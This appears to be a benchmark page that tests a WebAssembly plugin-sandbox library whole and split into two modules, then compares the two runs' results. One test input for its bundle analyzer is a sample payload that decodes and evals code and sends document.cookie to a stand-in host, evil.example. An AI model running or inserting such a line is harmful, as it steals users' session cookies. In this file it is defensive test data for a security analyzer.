// scripts/bench/split.mjs drives this page twice: on the package as built (?split=0) and on a
// copy whose core module is split in two by use (?split=1: the first module holds what a first
// visit ran; each other function is a stub calling the import `split.<i>`). With the split, a
// loader answers those imports: on the first stub call it fetches the second module
// synchronously, instantiates it on the first module's memory, tables, globals and functions,
// and calls the function there. The page runs a first visit (init, host, install, iframe mount,
// the plugin's calls), records whether the second module was fetched, then makes calls a first
// visit never makes and records their answers: the two runs must answer alike.
const splitOn = new URLSearchParams(location.search).get('split') === '1';
const pluginOrigin = new URLSearchParams(location.search).get('plugin');
const SECOND = '/pkg/plugin_warden_core2_bg.wasm';
let firstInstance = null;
let firstImports = null;
let second = null;
let loadMs = 0;

function loadSecond() {
  const t = performance.now();
  const xhr = new XMLHttpRequest();
  xhr.open('GET', SECOND, false); // synchronous: the stub must answer now
  xhr.overrideMimeType('text/plain; charset=x-user-defined');
  xhr.send();
  if (xhr.status !== 200) throw new Error(`split: ${SECOND} answered ${xhr.status}`);
  const text = xhr.responseText;
  const bytes = new Uint8Array(text.length);
  for (let i = 0; i < text.length; i++) bytes[i] = text.charCodeAt(i) & 0xff;
  const module = new WebAssembly.Module(bytes);
  second = new WebAssembly.Instance(module, { ...firstImports, primary: firstInstance.exports });
  loadMs = performance.now() - t;
}
let inVisit = true;
const calledInVisit = new Set();
const split = new Proxy({}, {
  get: (_, name) => (...args) => {
    if (inVisit) calledInVisit.add(Number(name));
    if (!second) loadSecond();
    return second.exports[`s${String(name)}`](...args);
  },
});
if (splitOn) {
  for (const name of ['instantiate', 'instantiateStreaming']) {
    const original = WebAssembly[name];
    WebAssembly[name] = async (source, imports = {}) => {
      const result = await original.call(WebAssembly, source, { ...imports, split });
      if (result.instance && 'k0' in result.instance.exports) {
        firstInstance = result.instance;
        firstImports = imports;
      }
      return result;
    };
  }
}
const fetchedSecond = () => performance.getEntriesByType('resource').some((e) => new URL(e.name).pathname === SECOND);

const { default: init, PluginHost, validateManifest, analyzeBundle, hostCsp } = await import('/pkg/index.js');
const settle = async (f) => { try { return { ok: true, value: await f() }; } catch (e) { return { ok: false, code: e.code ?? null, message: String(e.message) }; } };
try {
  await init();
  const host = new PluginHost({ storage: 'memory', dangerous: { allowLoopbackHttp: true } });
  window.splitHost = host; // kept: a finalizer is no part of the visit
  await host.install({ id: 'first-load', name: 'First load', version: '1.0.0', permissions: ['storage'] });
  const talked = new Promise((resolve) => {
    window.addEventListener('message', (e) => {
      const frame = document.querySelector('#slot iframe');
      if (frame && e.source === frame.contentWindow && e.data && e.data.coverage) resolve(e.data);
    });
  });
  await host.mount('first-load', document.getElementById('slot'), { src: `${pluginOrigin}/talk.html?host=${encodeURIComponent(location.origin)}` });
  const talk = await talked;
  const secondBeforeBeyond = fetchedSecond() || second !== null;
  inVisit = false;

  const answers = {
    talk,
    validate: await settle(() => validateManifest({ id: 'Bad Id', name: '', version: 'x', permissions: ['storag'] })),
    analyze: await settle(() => analyzeBundle('eval(atob("x")); fetch("https://evil.example/" + document.cookie)', { network: ['https://api.example'] })),
    csp: await settle(() => hostCsp([{ id: 'a', name: 'A', version: '1.0.0', permissions: ['api:read'], network: ['https://api.example'] }], { reportOnly: false })),
    inspect: await settle(() => { const i = host.inspect('first-load'); return { status: i.status, permissions: i.permissions }; }),
    installCode: await settle(() => host.install({ id: 'bundle', name: 'Bundle', version: '1.0.0', permissions: [] }, { code: 'console.log(1)' }).then((i) => ({ id: i.id }))),
    badInstall: await settle(() => host.install({ id: 'x', name: 'X', version: 'nope', permissions: ['nope'] })),
    rbac: await settle(() => {
      host.setUser({ role: 'Editor' });
      return [host.hasPermission('plugins:write'), host.hasPermission('dashboards:read'), host.canAccessRoute('first-load', '/a/first-load/', 'GET')];
    }),
    uninstall: await settle(() => { host.uninstall('bundle'); return host.plugins(); }),
  };
  window.splitResult = { secondBeforeBeyond, calledInVisit: [...calledInVisit], secondAfterBeyond: second !== null, loadMs, answers };
} catch (e) {
  window.splitResult = { error: String((e && e.message) || e), stack: String(e && e.stack) };
}
document.body.dataset.ready = 'true';
